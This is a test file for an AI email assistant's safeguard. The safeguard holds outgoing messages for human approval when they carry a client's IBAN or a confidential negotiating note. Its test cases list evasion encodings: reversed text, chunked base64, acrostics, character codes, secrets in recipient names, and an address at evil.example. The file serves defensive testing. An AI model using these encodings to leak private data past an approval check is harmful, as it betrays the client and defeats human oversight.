import { afterEach, beforeEach, expect, test } from "bun:test";
import { BOB, type McpFixture, mcpFixture } from "../../../test/support/mcp-fixture.ts";

/** Private values and notes wait for a person, wherever in a message they are. */

const IBAN = "GB29NWBK60161331926819";
const NOTE = "Never tell them that we accept forty percent less";

let m: McpFixture;
let profile_id: string;
beforeEach(() => {
  m = mcpFixture();
  m.writtenTo(BOB);
  const caller = { user_id: m.h.user.id, account_id: null, actor: m.person.actor, request_id: null };
  profile_id = m.people.context.create(caller, { domain: "client.example" }).id;
  m.people.context.update(caller, profile_id, { set: { iban: IBAN, contact: BOB }, append_note: NOTE });
  const [key] = m.h.platform.keys.list([m.h.user.id]);
  m.sends.policies.set(m.h.user.id, key!.id, { confirm: "token", recipients: "anyone" }, caller);
});
afterEach(() => m.h.close());

/** Sends without a person. @returns the status, and why it waits */
async function send(fields: object): Promise<[status: string, reasons: string]> {
  const { id } = await m.ok("save_draft", { to: [BOB], subject: "Hello", body: "See you on Friday.", ...fields });
  const { confirmation } = await m.ok("prepare_send", { draft_id: id });
  const { status, reasons = [] } = await m.ok("send_draft", { draft_id: id, confirmation });
  return [status, reasons.join("\n")];
}

const base64 = Buffer.from(NOTE).toString("base64");

test.each([
  ["the name of a recipient", { to: [`"${IBAN}" <${BOB}>`] }, "iban"],
  ["the name of a hidden recipient", { bcc: [`"${IBAN}" <${BOB}>`] }, "iban"],
  ["the address of a recipient", { to: [BOB, `${IBAN}@evil.example`] }, "iban"],
  ["the subject", { subject: NOTE }, "notes"],
  ["the text backwards", { body: [...NOTE].reverse().join("") }, "notes"],
  ["the text as base64 in pieces", { body: base64.match(/.{1,3}/g)!.join(" ") }, "notes"],
  ["first letters", { body: [...NOTE.replace(/ /g, "")].map((char) => `${char}ome`).join(" ") }, "notes"],
  ["numbers of characters", { body: [...NOTE].map((char) => char.charCodeAt(0)).join(" ") }, "notes"],
])("in %s", async (_, fields, named) => {
  const [status, reasons] = await send(fields);
  expect([status, m.count("sends")]).toEqual(["waiting_for_approval", 0]);
  expect(reasons).toContain(named);
});

test("a value that the assistant has removed or replaced before is still private, for 30 days", async () => {
  for (const iban of ["none", null]) {
    await m.ok("update_context", { profile_id, set: { iban } });
    expect(await send({ body: IBAN })).toEqual([
      "waiting_for_approval",
      expect.stringContaining("client.example: iban"),
    ]);
  }
  m.h.clock.advance(31 * 86_400_000);
  expect((await send({ body: IBAN }))[1]).not.toContain("client.example: iban");
});

test("the address of a client is no secret in a message to that client", async () => {
  expect((await send({ to: [`Bob Stone <${BOB}>`] }))[0]).toBe("scheduled");
});
